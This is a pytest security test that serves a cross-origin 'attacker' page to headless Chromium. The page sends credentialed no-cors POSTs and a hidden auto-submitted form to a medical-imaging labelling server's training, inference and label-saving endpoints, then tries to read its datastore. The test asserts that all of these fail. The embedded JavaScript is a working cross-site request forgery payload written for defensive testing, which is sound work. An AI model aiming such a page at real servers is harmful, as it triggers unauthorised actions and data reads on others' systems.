"""A page of another origin, in a real browser, against the running server."""

import json
import shutil
import subprocess
import threading
import urllib.parse
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
# Requests that a browser sends without asking the server first, then one whose answer the page wants to read.
PAGE = """<!doctype html><iframe name="hidden"></iframe><script>
const target = TARGET, done = [];
const blind = (path, body) => fetch(target + path, {method: "POST", mode: "no-cors", credentials: "include", body});
function form(path, name, value) {
    const form = document.createElement("form"), input = document.createElement("input");
    Object.assign(form, {method: "post", action: target + path, target: "hidden", enctype: "multipart/form-data"});
    Object.assign(input, {name, value});
    form.append(input);
    document.body.append(form);
    form.submit();
    return new Promise(resolve => document.querySelector("iframe").addEventListener("load", resolve, {once: true}));
}
async function attack() {
    await blind("/train/cxr", new Blob(['{"max_epochs": 1}'], {type: "text/plain"})).then(() => done.push("text"));
    await blind("/train/cxr", undefined).then(() => done.push("empty"));
    await blind("/batch/infer/cxr", undefined).then(() => done.push("batch"));
    await form("/infer/cxr?image=film1", "params", '{"save_label": true}').then(() => done.push("form"));
    const read = await fetch(target + "/datastore/?output=all").then(answer => answer.text(), () => "");
    await fetch("/report", {method: "POST", body: JSON.stringify({done, read})});
}
attack();
</script>"""


class Attacker(BaseHTTPRequestHandler):
    """Serves the page; keeps what it reports."""

    def do_GET(self):
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(PAGE.replace("TARGET", json.dumps(self.server.target)).encode())

    def do_POST(self):
        self.server.report = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        self.send_response(204)
        self.end_headers()
        self.server.reported.set()

    def log_message(self, *args):
        pass


@pytest.mark.skipif(CHROMIUM is None, reason="no chromium: a Debian package")
def test_a_page_of_another_origin_neither_trains_nor_writes_nor_reads(attacked, tmp_path):
    running, folder = attacked
    labels = folder / "films" / "labels"
    before = sorted(labels.rglob("*")), running.request("GET", "/train/")[0], running.request("GET", "/batch/infer")[0]
    with ThreadingHTTPServer(("127.0.0.1", 0), Attacker) as attacker:
        attacker.target, attacker.report, attacker.reported = running.root, None, threading.Event()
        threading.Thread(target=attacker.serve_forever, daemon=True).start()
        page = urllib.parse.urlunsplit(("http", f"127.0.0.1:{attacker.server_port}", "/", "", ""))
        options = ["--headless", "--no-sandbox", "--disable-gpu", "--no-proxy-server", "--disable-dev-shm-usage"]
        command = [CHROMIUM, *options, f"--user-data-dir={tmp_path / 'profile'}", "--remote-debugging-port=0", page]
        with (tmp_path / "browser.log").open("w") as log:
            browser = subprocess.Popen(command, stdout=log, stderr=subprocess.STDOUT)
        try:
            assert attacker.reported.wait(180), (tmp_path / "browser.log").read_text()[-2000:]
        finally:
            browser.terminate()
            browser.wait(30)
            attacker.shutdown()
    assert attacker.report == {"done": ["text", "empty", "batch", "form"], "read": ""}
    after = sorted(labels.rglob("*")), running.request("GET", "/train/")[0], running.request("GET", "/batch/infer")[0]
    assert before == after and "access-control-allow-origin" not in json.dumps(attacker.report)
    assert not list((folder / "integrations" / "monai_label" / "app" / "model").rglob("0*"))
